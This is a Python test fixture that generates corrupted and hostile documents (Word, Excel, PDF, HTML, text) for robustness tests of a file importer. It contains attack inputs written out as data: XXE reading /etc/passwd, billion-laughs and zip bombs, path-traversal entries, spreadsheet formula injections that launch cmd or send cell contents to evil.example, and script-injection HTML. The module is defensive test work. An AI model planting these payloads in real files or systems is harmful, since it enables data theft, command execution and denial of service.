"""Damaged and hostile files, each made when it is asked for."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from random import Random
from typing import NamedTuple

from tests.importers.reading.samples import (
    LOCKED,
    SENTENCE,
    TEXT,
    bare_workbook,
    pdf,
    pdf_file,
    web_page,
    word,
    workbook,
    written,
    zipped,
)
from tests.inspection.packages import docx, p, part, parts_of


class Hostile(NamedTuple):
    """A file, and what reading it must come to."""

    name: str
    make: Callable[[], bytes]
    codes: str = ""
    """The codes that may answer, apart by spaces; “读” if it may be read; empty for any outcome."""


SOUND: Mapping[str, Callable[[], bytes]] = {
    "公文.docx": word,
    "表.xlsx": workbook,
    "文件.pdf": lambda: pdf([written(SENTENCE[:20]), written("第二页")]),
    "网页.html": lambda: web_page().encode(),
    "国标.html": lambda: web_page().replace("utf-8", "gb2312").encode("gb18030"),
    "文本.txt": TEXT.encode,
    "国标.txt": lambda: TEXT.encode("gb18030"),
    "宽字.txt": lambda: TEXT.encode("utf-16"),
}
CUTS = 6
FLIPS = 4
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
LAUGHS = '<!DOCTYPE l [<!ENTITY a "哈哈">' + "".join(
    f'<!ENTITY {after} "{f"&{before};" * 10}">' for before, after in zip("abcdefgh", "bcdefghi", strict=True)
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def ole(stream: str) -> bytes:
    """A file of old Office programs with a stream of that name."""
    name = stream.encode("utf-16-le")
    return OLE + name.ljust(64, b"\0") + (len(name) + 2).to_bytes(2, "little") + bytes(512)


def cut(make: Callable[[], bytes], share: float) -> bytes:
    """The beginning of a file."""
    content = make()
    return content[: int(len(content) * share)]


def flipped(make: Callable[[], bytes], seed: int) -> bytes:
    """A file in which some bytes are others."""
    content, chance = bytearray(make()), Random(seed)
    for _ in range(12):
        content[chance.randrange(len(content))] = chance.randrange(256)
    return bytes(content)


def damaged_files() -> Iterator[Hostile]:
    """Every format cut short and garbled at seeded places."""
    chance = Random(4)
    for name, make in SOUND.items():
        for _ in range(CUTS):
            yield Hostile(name, partial(cut, make, chance.random()))
        for seed in range(FLIPS):
            yield Hostile(name, partial(flipped, make, seed))


def body(inner: str, before: str = "") -> bytes:
    """A Word document with that document part."""
    parts = parts_of("")
    return zipped(
        parts | {"word/document.xml": before.encode() + part("document", f"<w:body>{inner}</w:body>")}
    )


def with_part(content: Mapping[str, str | bytes]) -> bytes:
    """A Word document with further parts."""
    return zipped(parts_of(p(SENTENCE)) | dict(content))


def lying_zip() -> bytes:
    """A zip file whose directory says that a part is a thousand times as long."""
    content = bytearray(word())
    place = content.rfind(b"PK\x01\x02")
    content[place + 24 : place + 28] = (200 * 1024 * 1024).to_bytes(4, "little")
    return bytes(content)


def nested_archive() -> bytes:
    """A zip file in a zip file in a zip file."""
    content = word()
    for _ in range(3):
        content = zipped({"内层.zip": content})
    return content


def formula(text: str) -> bytes:
    """A workbook with that formula and no stored value."""
    return workbook([("甲", "乙"), ("丙", text)])


def macro_workbook() -> bytes:
    """A workbook with macros in it."""
    with zipfile.ZipFile(io.BytesIO(workbook())) as package:
        parts: dict[str, str | bytes] = {name: package.read(name) for name in package.namelist()}
    return zipped(parts | {"xl/vbaProject.bin": b"Sub Workbook_Open()"})


def content_bomb() -> bytes:
    """A PDF whose page unpacks to thirty megabytes."""
    stream = zlib.compress(b"BT (A) Tj ET " * (30 * 1024 * 1024 // 13))
    return pdf_file(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
            b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(stream), stream),
        ]
    )


def page(inner: str) -> Callable[[], bytes]:
    """A web page with the text and something else."""
    return web_page(inner).encode


ENCODINGS = (
    Hostile("混编.txt", lambda: TEXT.encode() + TEXT.encode("gb18030"), "IMP013 IMP014"),
    Hostile("混编.txt", lambda: TEXT.encode("gb18030") + TEXT.encode(), "IMP013 IMP014"),
    Hostile("混编.html", lambda: web_page().encode() + SENTENCE.encode("gb18030"), "IMP013 IMP014"),
    Hostile(
        "繁体.txt",
        lambda: ("採購辦法的規定與說明，請查照辦理，並轉知所屬。" * 9).encode("big5"),
        "IMP013 IMP015",
    ),
    Hostile(
        "日文.txt",
        lambda: ("この法律は、国の調達について定めるものとする。" * 9).encode("shift_jis"),
        "IMP013 IMP015",
    ),
    Hostile("拉丁.txt", lambda: "déjà vu, où ça, Ærø\xff".encode("latin-1"), "IMP013"),
    Hostile("断字.txt", lambda: TEXT.encode().rstrip()[:-1], "IMP013 IMP014"),
    Hostile("断字.txt", lambda: TEXT.encode("gb18030").rstrip()[:-1], "IMP013"),
    Hostile("半字.txt", lambda: b"\xff\xfe" + TEXT.encode("utf-16-le")[:-1], "IMP013"),
    Hostile("孤字.txt", lambda: b"\xff\xfe\x00\xd8" + TEXT.encode("utf-16-le"), "IMP013"),
    Hostile("假标记.txt", lambda: b"\xef\xbb\xbf" + TEXT.encode("gb18030"), "IMP013"),
    Hostile("宽编.txt", lambda: TEXT.encode("utf-32"), "IMP008 IMP016"),
    Hostile("空字节.txt", lambda: TEXT.encode() + b"\0", "IMP008 IMP016"),
    Hostile("空字节.txt", lambda: b"a\0b\0\0\0c", "IMP008 IMP016"),
    Hostile("空字节.html", lambda: web_page("<p>a\0b</p>").encode(), "IMP008 IMP016"),
    Hostile("控制.html", page("<p>a\x01b</p>"), "IMP016"),
    Hostile("乱字节.txt", lambda: Random(1).randbytes(5000), "IMP008 IMP013"),
    Hostile("程序.txt", lambda: b"MZ\x90\0\3\0\0\0" + bytes(3000) + Random(2).randbytes(3001), "IMP008"),
)
OTHER_FORMATS = (
    Hostile("空.txt", lambda: b"", "IMP002"),
    Hostile("空.docx", lambda: b"", "IMP002"),
    Hostile("零.pdf", lambda: bytes(1000), "IMP002"),
    Hostile("空白.txt", lambda: b" \r\n\t\r\n", "IMP002"),
    Hostile("空白.html", lambda: b"<html><body><script>1</script></body></html>", "IMP020"),
    Hostile("空白.docx", lambda: docx(p()), "IMP020"),
    Hostile("空白.xlsx", lambda: bare_workbook(""), "IMP020"),
    Hostile("旧.doc", lambda: ole("WordDocument"), "IMP005"),
    Hostile("旧.wps", lambda: ole("WordDocument"), "IMP005"),
    Hostile("旧.xls", lambda: ole("Workbook"), "IMP005"),
    Hostile("旧.et", lambda: ole("Workbook"), "IMP005"),
    Hostile("旧.ppt", lambda: ole("PowerPoint Document"), "IMP005"),
    Hostile("安装.msi", lambda: OLE + bytes(512), "IMP005"),
    Hostile("加密.docx", lambda: ole("EncryptedPackage"), "IMP004"),
    Hostile("加密.xlsx", lambda: ole("EncryptedPackage"), "IMP004"),
    Hostile("加密.pdf", lambda: pdf([written("甲")], LOCKED), "IMP004"),
    Hostile("版式.ofd", lambda: zipped({"OFD.xml": "<ofd/>", "Doc_0/Document.xml": "<d/>"}), "IMP005"),
    Hostile(
        "片.pptx", lambda: zipped({"[Content_Types].xml": "<T/>", "ppt/presentation.xml": "<p/>"}), "IMP005"
    ),
    Hostile("开放.odt", lambda: zipped({"META-INF/manifest.xml": "<m/>", "content.xml": "<c/>"}), "IMP005"),
    Hostile(
        "二进制.xlsb", lambda: zipped({"[Content_Types].xml": "<T/>", "xl/workbook.bin": b"\1"}), "IMP005"
    ),
    Hostile("富.rtf", lambda: b"{\\rtf1\\ansi hello}", "IMP005"),
    Hostile("部件.xml", lambda: b"<?xml version='1.0'?><pkg:package xmlns:pkg='x'/>", "IMP005"),
    Hostile(
        "整页.mht",
        lambda: b"From: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\r\n",
        "IMP005",
    ),
    Hostile("包.zip", nested_archive, "IMP006"),
    Hostile("包.docx", lambda: zipped({"a.txt": "x"}), "IMP006"),
    Hostile("包.rar", lambda: b"Rar!\x1a\7\0" + bytes(50), "IMP006"),
    Hostile("包.7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(50), "IMP006"),
    Hostile("包.gz", lambda: b"\x1f\x8b\x08" + bytes(50), "IMP006"),
    Hostile("包.tar", lambda: b"a.txt".ljust(257, b"\0") + b"ustar\0" + bytes(300), "IMP006"),
    Hostile("图.png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(50), "IMP007"),
    Hostile("图.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(50), "IMP007"),
    Hostile("图.tif", lambda: b"II*\0" + bytes(50), "IMP007"),
    Hostile("图.bmp", lambda: b"BM\x46\0\0\0\0\0\0\0" + bytes(50), "IMP007"),
    Hostile("扫描.pdf", lambda: pdf([[]], picture=True), "IMP017"),
    Hostile("空页.pdf", lambda: pdf([[], []]), "IMP017"),
)
WRONG_NAMES = (
    Hostile("其实是.docx", SOUND["文件.pdf"], "读"),
    Hostile("其实是.pdf", SOUND["公文.docx"], "读"),
    Hostile("其实是.txt", SOUND["表.xlsx"], "读"),
    Hostile("其实是.xlsx", SOUND["网页.html"], "IMP008"),
    Hostile("其实是.docx", SOUND["文本.txt"], "IMP008"),
    Hostile("其实是.txt", SOUND["网页.html"], "读"),
    Hostile("没有后缀", SOUND["文本.txt"], "读"),
    Hostile("BM开头.txt", "BMW车辆采购情况".encode, "读"),
    Hostile("宏.docm", lambda: with_part({"word/vbaProject.bin": b"Sub AutoOpen()"}), "读"),
    Hostile("宏.xlsm", macro_workbook, "读"),
)
PACKAGES = (
    Hostile("笑.docx", lambda: body(p("&i;"), LAUGHS + "]>"), "IMP011"),
    Hostile("外.docx", lambda: body(p("&e;"), OUTSIDE), "IMP011"),
    Hostile(
        "笑.xlsx",
        lambda: bare_workbook("<row><c t='str'><v>&i;</v></c></row>", before=LAUGHS + "]>"),
        "IMP011",
    ),
    Hostile(
        "外.xlsx", lambda: bare_workbook("<row><c t='str'><v>&e;</v></c></row>", before=OUTSIDE), "IMP011"
    ),
    Hostile(
        "外.xlsx", lambda: bare_workbook("", strings=OUTSIDE + "<sst><si><t>&e;</t></si></sst>"), "IMP011"
    ),
    Hostile("弹.docx", lambda: with_part({"word/document.xml": b" " * (65 * 1024 * 1024)}), "IMP010"),
    Hostile("弹.xlsx", lambda: bare_workbook(" " * (65 * 1024 * 1024)), "IMP010"),
    Hostile("多.docx", lambda: with_part({f"word/a{n}.xml": b"" for n in range(10_500)}), "IMP010"),
    Hostile("谎.docx", lying_zip, "IMP009 IMP010"),
    Hostile("穿.docx", lambda: with_part({"../../etc/passwd": b"x", "C:\\Windows\\x.xml": b"<a/>"}), "读"),
    Hostile(
        "深.docx",
        lambda: docx("<w:tbl><w:tr><w:tc>" * 100 + p("x") + "</w:tc></w:tr></w:tbl>" * 100),
        "IMP012",
    ),
    Hostile("深.docx", lambda: body("<w:ins>" * 3000 + "</w:ins>" * 3000), "IMP012"),
    Hostile("坏.docx", lambda: with_part({"word/document.xml": b"<w:document"}), "IMP009"),
    Hostile("无.docx", lambda: zipped({"[Content_Types].xml": "<T/>", "word/x.xml": "<x/>"}), "IMP009"),
    Hostile("坏.xlsx", lambda: bare_workbook("<row><c>"), "IMP009"),
    Hostile("缺.xlsx", lambda: zipped({"[Content_Types].xml": "<T/>", "xl/workbook.xml": "<w/>"}), "IMP009"),
    Hostile("错号.xlsx", lambda: bare_workbook("<row r='x'><c r='??'><v>1</v></c></row>"), "IMP009"),
    Hostile("错值.xlsx", lambda: bare_workbook("<row><c t='s'><v>99</v></c></row>"), "IMP009"),
    Hostile("错数.xlsx", lambda: bare_workbook("<row><c t='n'><v>九</v></c></row>"), "IMP009"),
    Hostile(
        "远.xlsx", lambda: bare_workbook("<row r='1048576'><c r='A1048576'><v>1</v></c></row>"), "IMP010"
    ),
    Hostile("宽.xlsx", lambda: bare_workbook("<row r='900'><c r='XFD900'><v>1</v></c></row>"), "IMP010"),
    Hostile("令.xlsx", lambda: formula("=cmd|' /C calc'!A0"), "IMP019"),
    Hostile("链.xlsx", lambda: formula('=HYPERLINK("http://evil.example/?"&A1,"点我")'), "IMP019"),
    Hostile("令.xlsx", lambda: formula('=DDE("cmd";"/C calc";"x")'), "IMP019"),
    Hostile("取.xlsx", lambda: formula('=WEBSERVICE("http://evil.example")'), "IMP019"),
    Hostile("控.xlsx", lambda: bare_workbook("<row><c t='str'><v>a_x0007_b</v></c></row>"), "IMP016"),
    Hostile("坏.pdf", lambda: b"%PDF-1.7\n" + Random(3).randbytes(3000), "IMP009"),
    Hostile(
        "环.pdf",
        lambda: pdf_file([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Kids[2 0 R]/Count 9>>"]),
        "IMP009 IMP017",
    ),
    Hostile("弹.pdf", content_bomb),
    Hostile("脚本.pdf", lambda: pdf([written("甲")], "/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "读"),
)
PAGES = (
    Hostile(
        "脚本.html",
        page("<script>alert('script里的字')</script><script src='//evil.example/x.js'></script>"),
        "读",
    ),
    Hostile(
        "事件.html", page("<img src=x onerror=\"alert('坏')\"><a href='javascript:alert(1)'>看</a>"), "读"
    ),
    Hostile(
        "嵌入.html", page("<iframe srcdoc='<script>1</script>'></iframe><object data='x'>坏</object>"), "读"
    ),
    Hostile("数据.html", page(f"<img src='data:image/png;base64,{'A' * 12_000_000}'>"), "读"),
    Hostile(
        "矢量.html",
        page("<svg><script>alert('坏')</script><text>图</text></svg><math><mtext>x</mtext></math>"),
        "读",
    ),
    Hostile("模板.html", page("<template><p>坏</p></template><noscript><p>请打开脚本</p></noscript>"), "读"),
    Hostile("实体.html", (LAUGHS + "]>" + web_page("<p>&i;</p>")).encode, "读 IMP005"),
    Hostile("外.html", (OUTSIDE + web_page("<p>&e;</p>")).encode, "读 IMP005"),
    Hostile("深.html", page("<div>" * 10_000 + "底"), "IMP012"),
    Hostile("深.html", page("<b>" * 10_000 + "底" + "</b>" * 10_000), "IMP012"),
    Hostile("深表.html", page("<table><tr><td>" * 10_000 + "底"), "IMP012"),
    Hostile("多签.html", page("<i></i>" * 160_000), "IMP010"),
    Hostile("不闭.html", page("<p>甲" * 20_000), "读"),
    Hostile("不闭.html", page("<ul><li>甲<table><td>乙<a href='x"), ""),
    Hostile("半签.html", page("<p title='没完"), ""),
    Hostile(
        "跨.html",
        page("<table>" + "<tr><td colspan=99999 rowspan=99999>甲<td>乙" * 9_000 + "</table>"),
        "IMP010",
    ),
    Hostile("跨.html", page("<table>" + "<tr><td rowspan=99999>甲<td>乙" * 1_500 + "</table>"), "IMP010"),
    Hostile("长.html", page("<p>" + "长" * 1_000_000), "读"),
    Hostile("长.txt", ("长" * 1_000_000).encode, "读"),
    Hostile("长.txt", lambda: b"x\t" * 600_000 + b"\n" + b"x\t" * 600_000, "IMP010"),
    Hostile("多.txt", lambda: b"a\n" * 300_000, "IMP010"),
    Hostile("管.txt", lambda: (b"|" * 5000 + b"\n") * 3),
)
HOSTILE = (*damaged_files(), *ENCODINGS, *OTHER_FORMATS, *WRONG_NAMES, *PACKAGES, *PAGES)
